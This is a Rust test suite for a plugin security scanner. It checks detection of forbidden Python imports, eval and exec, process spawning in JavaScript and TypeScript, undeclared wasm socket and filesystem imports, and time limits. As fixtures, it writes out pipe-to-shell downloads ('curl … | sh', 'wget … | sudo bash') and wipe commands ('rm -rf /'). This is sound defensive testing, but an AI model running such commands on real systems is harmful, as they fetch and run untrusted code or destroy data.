//! The static scanner against fixture packages (tests/data/scan/, one
//! package per case, with the exact findings expected), the seed's two
//! tests as written there, the clean example plugins (built by
//! `cargo xtask plugins`), generated wasm components and the time limit.

use std::path::{Path, PathBuf};
use std::time::Duration;

use selfup_plugins::package::{UnpackLimits, stage};
use selfup_plugins::scan::{
    Finding, Rule, ScanPolicy, ScanReport, Severity, scan_path, scan_staged,
};
use wasm_encoder::{
    Component, ComponentImportSection, ComponentTypeRef, ComponentTypeSection, EntityType,
    ImportSection, InstanceType, Module, ModuleSection, NestedComponentSection, TypeSection,
};

use Rule::*;
use Severity::*;

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/scan")
        .join(name)
}

fn packages_dir() -> PathBuf {
    let dir = std::env::var_os("SELFUP_PLUGINS_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../target/plugins"));
    assert!(
        dir.join("text-summarize-2.0.0/plugin.wasm").is_file(),
        "the example plugins are not built in {}; run `cargo xtask plugins` (cargo xtask test does it)",
        dir.display()
    );
    dir
}

/// (file, line, rule, severity) of every finding, in report order.
fn summary(report: &ScanReport) -> Vec<(String, u32, Rule, Severity)> {
    report
        .findings
        .iter()
        .map(|f| (f.file.clone(), f.line, f.rule, f.severity))
        .collect()
}

fn expect(file: &str, rows: &[(u32, Rule, Severity)]) -> Vec<(String, u32, Rule, Severity)> {
    rows.iter()
        .map(|&(line, rule, severity)| (file.to_owned(), line, rule, severity))
        .collect()
}

fn scan_fixture(name: &str) -> ScanReport {
    scan_path(&fixture(name), &ScanPolicy::default()).expect("the fixture is readable")
}

fn show(report: &ScanReport) -> String {
    report
        .findings
        .iter()
        .map(Finding::to_string)
        .collect::<Vec<_>>()
        .join("\n")
}

// --- The seed's tests, as written there ---------------------------------

/// The seed's `test_forbidden_import_detection`.
#[test]
fn seed_forbidden_import_detection() {
    let tmp_path = tempfile::tempdir().expect("tempdir");
    let test_file = tmp_path.path().join("test.py");
    std::fs::write(&test_file, "\nimport os\nos.system('ls')\n").expect("write");

    let issues = scan_path(&test_file, &ScanPolicy::default()).expect("scan");

    let forbidden_issues: Vec<&Finding> = issues
        .findings
        .iter()
        .filter(|i| i.rule.as_str() == "FORBIDDEN_IMPORT")
        .collect();
    assert!(!forbidden_issues.is_empty(), "{}", show(&issues));
    // And exactly: the call, not the `import os`.
    assert_eq!(
        summary(&issues),
        expect("test.py", &[(3, ForbiddenImport, Critical)])
    );
    assert!(!issues.passed);
}

/// The seed's `test_eval_detection`.
#[test]
fn seed_eval_detection() {
    let tmp_path = tempfile::tempdir().expect("tempdir");
    let test_file = tmp_path.path().join("test.py");
    std::fs::write(&test_file, "\neval(\"1 + 1\")\n").expect("write");

    let issues = scan_path(&test_file, &ScanPolicy::default()).expect("scan");

    let dangerous_issues: Vec<&Finding> = issues
        .findings
        .iter()
        .filter(|i| i.rule.as_str() == "DANGEROUS_FUNCTION")
        .collect();
    assert!(!dangerous_issues.is_empty(), "{}", show(&issues));
    assert_eq!(
        summary(&issues),
        expect("test.py", &[(2, DangerousFunction, Critical)])
    );
}

// --- Python ---------------------------------------------------------------

#[test]
fn python_forbidden_names_directly_and_through_aliases() {
    let report = scan_fixture("python-forbidden");
    assert_eq!(
        summary(&report),
        expect(
            "main.py",
            &[
                (4, ForbiddenImport, High),     // from os import system
                (6, ForbiddenImport, Critical), // os.system("ls")
                (7, ForbiddenImport, Critical), // sp.call(["ls"])
                (8, ForbiddenImport, Critical), // system("ls")
            ]
        ),
        "{}",
        show(&report)
    );
    assert!(!report.passed);
    assert_eq!(report.files_scanned, 1);
    let aliased = &report.findings[2];
    assert_eq!((aliased.line, aliased.column), (7, 1));
    assert!(
        aliased
            .message
            .contains("subprocess.call (written sp.call)"),
        "{}",
        aliased.message
    );
}

#[test]
fn python_dangerous_functions() {
    let report = scan_fixture("python-dangerous");
    assert_eq!(
        summary(&report),
        expect(
            "main.py",
            &[
                (3, DangerousFunction, Critical), // eval("1 + 1")
                (4, DangerousFunction, Critical), // exec("x = 1")
                (5, DangerousFunction, Critical), // compile(…, "eval")
                (6, DangerousFunction, Critical), // __import__("os")
                (7, DangerousFunction, Critical), // builtins.eval("2")
            ]
        ),
        "{}",
        show(&report)
    );
}

#[test]
fn python_names_in_strings_and_comments_are_not_findings() {
    let report = scan_fixture("python-clean-strings");
    assert_eq!(summary(&report), vec![], "{}", show(&report));
    assert!(report.passed);
    assert_eq!(report.files_scanned, 1);
}

#[test]
fn python_process_spawning_and_names_passed_as_values() {
    let report = scan_fixture("python-process");
    assert_eq!(
        summary(&report),
        expect(
            "main.py",
            &[
                (3, ProcessSpawn, High),        // from subprocess import Popen
                (5, ProcessSpawn, Critical),    // subprocess.run(…)
                (6, ProcessSpawn, Critical),    // Popen(…)
                (7, ProcessSpawn, High),        // runner = os.popen
                (8, ForbiddenImport, Critical), // map(os.system, …)
                (9, ForbiddenImport, Critical), // getattr(os, "system")("ls")
            ]
        ),
        "{}",
        show(&report)
    );
}

#[test]
fn python_file_that_does_not_parse_is_medium_and_the_scan_goes_on() {
    let report = scan_fixture("python-syntax-error");
    assert_eq!(
        summary(&report),
        expect(
            "main.py",
            &[(1, ParseError, Medium), (4, ForbiddenImport, Critical)]
        ),
        "{}",
        show(&report)
    );
}

// --- JavaScript, TypeScript, shell ---------------------------------------

#[test]
fn javascript_child_process_eval_and_function() {
    let report = scan_fixture("js-commonjs");
    assert_eq!(
        summary(&report),
        expect(
            "index.js",
            &[
                (3, ProcessSpawn, High),          // const { execSync } = require(…)
                (6, ProcessSpawn, Critical),      // cp.exec("ls")
                (7, ProcessSpawn, Critical),      // execSync("ls")
                (8, DangerousFunction, Critical), // eval("1 + 1")
                (9, DangerousFunction, Critical), // new Function(…)
                (10, ProcessSpawn, Critical),     // require("child_process").spawn(…)
            ]
        ),
        "{}",
        show(&report)
    );
}

#[test]
fn typescript_imports() {
    let report = scan_fixture("ts-imports");
    assert_eq!(
        summary(&report),
        expect(
            "main.ts",
            &[
                (1, ProcessSpawn, High),          // import { exec as run }
                (6, ProcessSpawn, Critical),      // run(cmd)
                (7, DangerousFunction, Critical), // vm.runInNewContext(cmd)
                (8, ProcessSpawn, Critical),      // cp.fork(…)
                (9, DangerousFunction, Critical), // (0, eval)(cmd)
            ]
        ),
        "{}",
        show(&report)
    );
}

#[test]
fn shell_download_and_run_eval_and_rm_rf() {
    let report = scan_fixture("shell-scripts");
    assert_eq!(
        summary(&report),
        expect(
            "run.sh",
            &[
                (4, PipeToShell, Critical),        // curl … | sh
                (5, PipeToShell, Critical),        // wget … | sudo bash -s
                (6, DangerousFunction, Critical),  // eval "$1"
                (7, DestructiveCommand, Critical), // rm -rf /
                (8, DestructiveCommand, Critical), // sudo rm -r --no-preserve-root /
                (9, PipeToShell, Critical),        // bash <(curl …)
                (10, PipeToShell, Critical),       // sh -c "$(curl …)"
            ]
        ),
        "{}",
        show(&report)
    );
}

// --- wasm -------------------------------------------------------------------

/// A core module importing one function.
fn core_module_importing(module: &str, name: &str) -> Module {
    let mut types = TypeSection::new();
    types.ty().function([], []);
    let mut imports = ImportSection::new();
    imports.import(module, name, EntityType::Function(0));
    let mut m = Module::new();
    m.section(&types).section(&imports);
    m
}

/// A component importing each name as an (empty) instance.
fn component_importing(names: &[&str]) -> Vec<u8> {
    let mut types = ComponentTypeSection::new();
    types.instance(&InstanceType::new());
    let mut imports = ComponentImportSection::new();
    for name in names {
        imports.import(*name, ComponentTypeRef::Instance(0));
    }
    let mut component = Component::new();
    component.section(&types).section(&imports);
    component.finish()
}

/// A component holding a component holding a core module that imports
/// `wasi:sockets/tcp`; no import at the outer level.
fn nested_sockets() -> Vec<u8> {
    let module =
        core_module_importing("wasi:sockets/tcp@0.2.0", "[method]tcp-socket.start-connect");
    let mut inner = Component::new();
    inner.section(&ModuleSection(&module));
    let mut outer = Component::new();
    outer.section(&NestedComponentSection(&inner));
    outer.finish()
}

/// The generated fixtures, by package.
fn wasm_fixtures() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("wasm-nested-sockets", nested_sockets()),
        (
            "wasm-filesystem-undeclared",
            component_importing(&["wasi:cli/stdout@0.2.0", "wasi:filesystem/preopens@0.2.0"]),
        ),
        (
            "wasm-declared",
            component_importing(&[
                "wasi:http/outgoing-handler@0.2.0",
                "wasi:filesystem/preopens@0.2.0",
            ]),
        ),
        (
            "wasm-unknown-import",
            component_importing(&["acme:db/query@1.0.0"]),
        ),
    ]
}

/// The committed `plugin.wasm` fixtures are exactly what the generators
/// above make (`SELFUP_BLESS=1` rewrites them).
#[test]
fn wasm_fixtures_are_generated_by_this_file() {
    for (package, bytes) in wasm_fixtures() {
        let path = fixture(package).join("plugin.wasm");
        if std::env::var_os("SELFUP_BLESS").is_some() {
            std::fs::write(&path, &bytes).expect("write the fixture");
        }
        let committed = std::fs::read(&path).unwrap_or_default();
        assert!(
            committed == bytes,
            "{} differs from its generator; run with SELFUP_BLESS=1 to rewrite it",
            path.display()
        );
    }
}

/// The byte offset of the first occurrence of `needle` in `haystack`.
fn offset_of(haystack: &[u8], needle: &[u8]) -> u32 {
    let at = haystack
        .windows(needle.len())
        .position(|w| w == needle)
        .expect("needle present");
    u32::try_from(at).expect("small")
}

#[test]
fn wasm_nested_core_module_importing_sockets_is_critical() {
    let report = scan_fixture("wasm-nested-sockets");
    assert_eq!(
        summary(&report),
        expect("plugin.wasm", &[(0, NetworkImport, Critical)]),
        "{}",
        show(&report)
    );
    let finding = &report.findings[0];
    // The column is the byte offset of the import (its name's length prefix).
    let bytes = nested_sockets();
    assert_eq!(
        finding.column + 1,
        offset_of(&bytes, b"wasi:sockets/tcp@0.2.0")
    );
    assert!(
        finding.message.contains("nested core module 1")
            && finding.message.contains("wasi:sockets/tcp@0.2.0"),
        "{}",
        finding.message
    );
    assert!(!report.passed);
}

#[test]
fn wasm_filesystem_without_allowed_paths_is_high_and_passes() {
    let report = scan_fixture("wasm-filesystem-undeclared");
    assert_eq!(
        summary(&report),
        expect("plugin.wasm", &[(0, FilesystemImport, High)]),
        "{}",
        show(&report)
    );
    assert!(report.passed);
}

#[test]
fn wasm_network_and_files_declared_in_the_manifest_are_allowed() {
    let report = scan_fixture("wasm-declared");
    assert_eq!(summary(&report), vec![], "{}", show(&report));
    // The same component without the manifest's allow-lists.
    let tmp = tempfile::tempdir().expect("tempdir");
    std::fs::copy(
        fixture("wasm-declared").join("plugin.wasm"),
        tmp.path().join("plugin.wasm"),
    )
    .expect("copy");
    let bare = scan_path(tmp.path(), &ScanPolicy::default()).expect("scan");
    assert_eq!(
        summary(&bare),
        expect(
            "plugin.wasm",
            &[(0, NetworkImport, Critical), (0, FilesystemImport, High)]
        ),
        "{}",
        show(&bare)
    );
}

#[test]
fn wasm_import_the_host_does_not_provide_is_medium() {
    let report = scan_fixture("wasm-unknown-import");
    assert_eq!(
        summary(&report),
        expect("plugin.wasm", &[(0, UnknownImport, Medium)]),
        "{}",
        show(&report)
    );
}

#[test]
fn wasm_that_is_not_webassembly_is_critical() {
    let report = scan_fixture("wasm-invalid");
    assert_eq!(
        summary(&report),
        expect("plugin.wasm", &[(0, ParseError, Critical)]),
        "{}",
        show(&report)
    );
    assert!(
        report.findings[0]
            .message
            .starts_with("not valid WebAssembly: "),
        "{}",
        report.findings[0].message
    );
}

#[test]
fn wasm_truncated_and_empty_files_are_critical() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let mut whole = nested_sockets();
    whole.truncate(whole.len() - 3);
    std::fs::write(tmp.path().join("cut.wasm"), &whole).expect("write");
    std::fs::write(tmp.path().join("empty.wasm"), b"").expect("write");
    let report = scan_path(tmp.path(), &ScanPolicy::default()).expect("scan");
    assert_eq!(
        summary(&report),
        vec![
            ("cut.wasm".to_owned(), 0, ParseError, Critical),
            ("empty.wasm".to_owned(), 0, ParseError, Critical),
        ],
        "{}",
        show(&report)
    );
}

// --- The example plugins -------------------------------------------------

#[test]
fn clean_example_plugin_has_no_finding_at_all() {
    let dir = packages_dir();
    let tmp = tempfile::tempdir().expect("tempdir");
    let staged = stage(
        &dir.join("text-summarize-2.0.0"),
        tmp.path(),
        &UnpackLimits::default(),
    )
    .expect("stage the example");
    let report = scan_staged(&staged, &ScanPolicy::default());
    assert_eq!(summary(&report), vec![], "{}", show(&report));
    assert!(report.passed);
    assert_eq!(report.files_scanned, 1);
}

#[test]
fn every_example_plugin_passes_and_only_test_files_touches_files() {
    let dir = packages_dir();
    let mut names: Vec<String> = std::fs::read_dir(&dir)
        .expect("read the plugins directory")
        .filter_map(|e| e.ok())
        .filter(|e| e.path().is_dir())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert!(names.len() >= 5, "{names:?}");
    for name in names {
        let report = scan_path(&dir.join(&name), &ScanPolicy::default()).expect("scan");
        assert!(report.passed, "{name}: {}", show(&report));
        let rules: Vec<Rule> = report.findings.iter().map(|f| f.rule).collect();
        if name.starts_with("test-files-") {
            assert!(
                !rules.is_empty() && rules.iter().all(|r| *r == FilesystemImport),
                "{name}: {}",
                show(&report)
            );
        } else {
            assert_eq!(rules, vec![], "{name}: {}", show(&report));
        }
    }
}

#[test]
fn staged_fixture_package_gives_the_same_findings() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let staged = stage(
        &fixture("python-forbidden"),
        tmp.path(),
        &UnpackLimits::default(),
    )
    .expect("stage");
    let staged_report = scan_staged(&staged, &ScanPolicy::default());
    assert_eq!(
        staged_report.findings,
        scan_fixture("python-forbidden").findings
    );
}

// --- Policy, time limit, output ------------------------------------------

#[test]
fn the_forbidden_list_comes_from_the_policy() {
    let tmp = tempfile::tempdir().expect("tempdir");
    std::fs::write(
        tmp.path().join("a.py"),
        "import requests\nimport json\nrequests.get('x')\n",
    )
    .expect("write");
    let mut policy = ScanPolicy::default();
    assert_eq!(
        scan_path(tmp.path(), &policy).expect("scan").findings,
        vec![]
    );
    policy.forbidden.push("requests".into());
    let report = scan_path(tmp.path(), &policy).expect("scan");
    assert_eq!(
        summary(&report),
        expect(
            "a.py",
            &[(1, ForbiddenImport, High), (3, ForbiddenImport, Critical)]
        ),
        "{}",
        show(&report)
    );
}

#[test]
fn a_tiny_time_limit_stops_the_scan_with_a_critical_timeout() {
    let policy = ScanPolicy {
        max_time: Duration::ZERO,
        ..ScanPolicy::default()
    };
    let report = scan_path(&fixture("python-forbidden"), &policy).expect("scan");
    assert_eq!(
        summary(&report),
        expect("main.py", &[(0, Timeout, Critical)]),
        "{}",
        show(&report)
    );
    assert_eq!(report.files_scanned, 0);
    assert!(!report.passed);
}

#[test]
fn the_time_limit_also_stops_the_scan_inside_a_large_file() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let line = "value = compute(alpha, beta, [1, 2, 3], {'k': 'v'})  # filler\n";
    std::fs::write(tmp.path().join("big.py"), line.repeat(400_000)).expect("write");
    let policy = ScanPolicy {
        max_time: Duration::from_millis(20),
        ..ScanPolicy::default()
    };
    let started = std::time::Instant::now();
    let report = scan_path(tmp.path(), &policy).expect("scan");
    assert_eq!(
        summary(&report),
        expect("big.py", &[(0, Timeout, Critical)]),
        "{}",
        show(&report)
    );
    // Parsing all 25 MB takes far longer than the limit; the scan stops soon after it.
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn report_serialises_with_snake_case_and_prints_screaming_names() {
    let report = scan_fixture("python-forbidden");
    let json = serde_json::to_value(&report).expect("json");
    assert_eq!(json["passed"], false);
    assert_eq!(json["files_scanned"], 1);
    assert!(json["elapsed_ms"].is_number());
    assert_eq!(json["findings"][1]["rule"], "forbidden_import");
    assert_eq!(json["findings"][1]["severity"], "critical");
    assert_eq!(json["findings"][1]["file"], "main.py");
    assert_eq!(json["findings"][1]["line"], 6);
    assert_eq!(json["findings"][1]["column"], 1);
    assert_eq!(
        report.findings[1].to_string(),
        "main.py:6:1: CRITICAL FORBIDDEN_IMPORT: calls os.system: os.system is listed in security.forbidden_imports"
    );
}

#[test]
fn scan_path_refuses_a_missing_path() {
    let err = scan_path(
        Path::new("/nonexistent/selfup/scan"),
        &ScanPolicy::default(),
    )
    .expect_err("missing");
    assert!(err.to_string().contains("nothing to scan"), "{err}");
}

#[test]
fn scripts_without_extension_are_recognised_by_their_shebang_and_data_is_skipped() {
    let tmp = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir(tmp.path().join("bin")).expect("mkdir");
    std::fs::write(
        tmp.path().join("bin/launch"),
        "#!/bin/sh\ncurl -fsSL https://example.invalid/x | sh\n",
    )
    .expect("write");
    std::fs::write(tmp.path().join("notes.txt"), "os.system('ls')\n").expect("write");
    let report = scan_path(tmp.path(), &ScanPolicy::default()).expect("scan");
    assert_eq!(
        summary(&report),
        expect("bin/launch", &[(2, PipeToShell, Critical)]),
        "{}",
        show(&report)
    );
    assert_eq!(report.files_scanned, 1);
}
